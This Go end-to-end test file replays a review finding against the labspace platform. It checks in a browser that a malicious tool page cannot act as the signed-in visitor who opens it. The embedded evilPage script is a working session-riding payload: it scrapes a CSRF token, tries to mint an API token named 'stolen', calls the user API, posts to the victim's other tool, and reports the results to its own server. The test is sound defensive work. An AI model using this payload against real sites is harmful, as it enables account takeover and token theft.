package e2e

import (
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// evilPage is the attacker's tool page (review finding S3): opened by a
// victim, its script tries to mint a token on labspace's token page with the
// victim's session, to call the API, and to post to the victim's own tool
// on a neighbouring host. It reports each step to its own server, whose log
// the attacker (and the test) reads.
const evilPage = `<!doctype html><title>results</title><script>
const MAIN = location.hostname.endsWith(".labspace.test") ? "MAIN_ORIGIN" : "";
const report = (k, v) => fetch("report?" + k + "=" + encodeURIComponent(v)).catch(() => {});
(async () => {
  try {
    const page = await (await fetch(MAIN + "/admin/tokens", {credentials: "include"})).text();
    const csrf = (page.match(/name="csrf" value="([^"]+)"/) || [])[1] || "none";
    await report("csrf", csrf);
    const body = new URLSearchParams({csrf: csrf, name: "stolen", days: "30"});
    const res = await fetch(MAIN + "/admin/tokens", {method: "POST", body: body, credentials: "include"});
    await report("token", ((await res.text()).match(/lsp_[A-Za-z0-9_-]+/) || ["none"])[0]);
  } catch (e) { await report("tokens-error", String(e)); }
  try {
    await report("me", (await fetch(MAIN + "/api/v1/me", {credentials: "include"})).status);
  } catch (e) { await report("me-error", String(e)); }
  try {
    await fetch("VICTIM_TOOL/planted", {method: "POST", mode: "no-cors", credentials: "include", body: "x"});
  } catch (e) {}
  await report("done", "1");
})();
</script>`

// evilServer writes the page into the home and serves it.
const evilServer = `
import os
page = os.environ["PAGE"].replace("MAIN_ORIGIN", os.environ["MAIN_ORIGIN"]).replace("VICTIM_TOOL", os.environ["VICTIM_TOOL"])
open("index.html", "w").write(page)
os.execvp("python3", ["python3", "-m", "http.server", os.environ["PORT"], "--bind", "127.0.0.1"])
`

// The attack of review finding S3 replayed in Chromium: the attacker's tool
// page, opened by a signed-in victim, mints no token and makes no call as
// the victim: on labspace's own address the proxy never shows it to anyone
// but its author, and on a host of its own (shared with the project) its
// script runs but reaches neither labspace nor the victim's other tools.
func TestToolPageCannotActAsItsVisitor(t *testing.T) {
	requireTools(t, "python3")
	s := startServer(t, freeAddr(t), t.TempDir(), "--proxy-domain", "labspace.test")
	s.project("alpha", map[string]any{"gpus": 0})
	tokens := map[string]string{}
	for _, u := range []string{"alice", "vic"} {
		s.must(201, "POST", "/api/v1/users", s.admin, map[string]any{"meta": map[string]any{"name": u}, "password": u + "-password-1"}, nil)
		s.must(201, "POST", "/api/v1/access-rules", s.admin, map[string]any{
			"meta": map[string]any{"scope": map[string]any{"type": "project", "name": "alpha"}},
			"spec": map[string]any{"subject": map[string]any{"type": "user", "name": u}, "role": "l1-researcher"}}, nil)
		var tok struct{ AccessToken string }
		s.must(200, "POST", "/api/v1/token", "", map[string]any{"username": u, "password": u + "-password-1"}, &tok)
		tokens[u] = tok.AccessToken
	}
	main := "http://" + s.addr
	_, port, _ := strings.Cut(s.addr, ":")
	victimTool := "http://web-vicws-alpha.labspace.test:" + port

	// The victim's own workspace, whose tool the page will try to post to.
	s.must(201, "POST", "/api/v1/projects/alpha/workspaces", tokens["vic"],
		map[string]any{"name": "vicws", "environment": "python-http", "compute": "cpu-small"}, nil)
	s.must(201, "POST", "/api/v1/environments", tokens["alice"], map[string]any{
		"meta": map[string]any{"name": "evil", "scope": map[string]any{"type": "project", "name": "alpha"}},
		"spec": map[string]any{"image": "python:3-slim", "command": []string{"python3", "-c", evilServer},
			"tools": []any{map[string]any{"name": "web", "type": "custom", "port": 8000, "stripPrefix": true}},
			"env": []any{map[string]any{"name": "PAGE", "value": evilPage}, map[string]any{"name": "MAIN_ORIGIN", "value": main},
				map[string]any{"name": "VICTIM_TOOL", "value": victimTool}}}}, nil)
	s.must(201, "POST", "/api/v1/projects/alpha/workspaces", tokens["alice"],
		map[string]any{"name": "evil", "environment": "evil", "compute": "cpu-small"}, nil)
	s.waitPhase("alpha", "evil", "Running", toolStart)
	s.waitPhase("alpha", "vicws", "Running", toolStart)
	// Every link to a tool (the pages' Connect, the CLI's ws open) is the hand-over.
	var got struct {
		Status struct{ Tools []struct{ URL string } }
	}
	s.must(200, "GET", "/api/v1/projects/alpha/workspaces/vicws", tokens["vic"], nil, &got)
	if len(got.Status.Tools) != 1 || got.Status.Tools[0].URL != main+"/connect/alpha/vicws/web/" {
		t.Errorf("tool links %+v, want %s/connect/alpha/vicws/web/", got.Status.Tools, main)
	}
	evilLog := func() string {
		_, raw := s.call("GET", "/api/v1/projects/alpha/workspaces/evil/logs", tokens["alice"], nil, nil)
		return string(raw)
	}
	vicLog := func() string {
		_, raw := s.call("GET", "/api/v1/projects/alpha/workspaces/vicws/logs", tokens["vic"], nil, nil)
		return string(raw)
	}

	b := newBrowser(t, s, chromedp.Flag("host-resolver-rules", "MAP *.labspace.test 127.0.0.1"))
	b.signIn("vic", "vic-password-1", "/")
	// vic opens his own tool first, so that its host holds his tool cookie.
	if st := b.open("/connect/alpha/vicws/web/"); st != 200 || !strings.HasPrefix(b.location(), victimTool+"/") {
		t.Fatalf("vic's own tool: %d at %s", st, b.location())
	}

	// Path mode: the page is alice's, and labspace's address shows it to her only.
	if st := b.open("/ws/alpha/evil/web/"); st != 403 {
		t.Errorf("vic opens alice's tool by path: %d, want 403", st)
	}
	time.Sleep(time.Second)
	if strings.Contains(evilLog(), "/report?") {
		t.Fatalf("the page ran in vic's browser on labspace's address:\n%s", evilLog())
	}

	// Its own host: alice shares it, vic opens it, its script runs.
	s.must(200, "PUT", "/api/v1/projects/alpha/workspaces/evil/sharing", tokens["alice"], map[string]any{"project": true}, nil)
	if st := b.open("/connect/alpha/evil/web/"); st != 200 {
		t.Fatalf("vic opens alice's shared tool: %d at %s", st, b.location())
	}
	if loc, _ := url.Parse(b.location()); loc == nil || loc.Hostname() != "web-evil-alpha.labspace.test" {
		t.Fatalf("the shared tool opened at %s, want its own host", b.location())
	}
	deadline := time.Now().Add(uiStep)
	for !strings.Contains(evilLog(), "/report?done=1") {
		if time.Now().After(deadline) {
			t.Fatalf("the page's script did not finish:\n%s", evilLog())
		}
		time.Sleep(pollInterval)
	}
	reports := regexp.MustCompile(`GET /report\?([^ ]+)`).FindAllStringSubmatch(evilLog(), -1)
	for _, r := range reports {
		t.Logf("the page reported %s", r[1])
		if strings.Contains(r[1], "lsp_") || strings.HasPrefix(r[1], "me=200") || (strings.HasPrefix(r[1], "csrf=") && r[1] != "csrf=none") {
			t.Errorf("the page got something of vic's: %s", r[1])
		}
	}
	if strings.Contains(vicLog(), "POST") || strings.Contains(vicLog(), "planted") {
		t.Errorf("the page reached vic's own tool:\n%s", vicLog())
	}
	var list struct{ Items []struct{ Name string } }
	s.must(200, "GET", "/api/v1/tokens", tokens["vic"], nil, &list)
	for _, tk := range list.Items {
		if tk.Name == "stolen" {
			t.Errorf("a token was minted for vic")
		}
	}
	// And the page does not touch labspace's own address in vic's browser.
	b.open("/")
	if who := b.text("#who"); who != "vic" {
		t.Errorf("vic is no longer signed in: %q", who)
	}
}
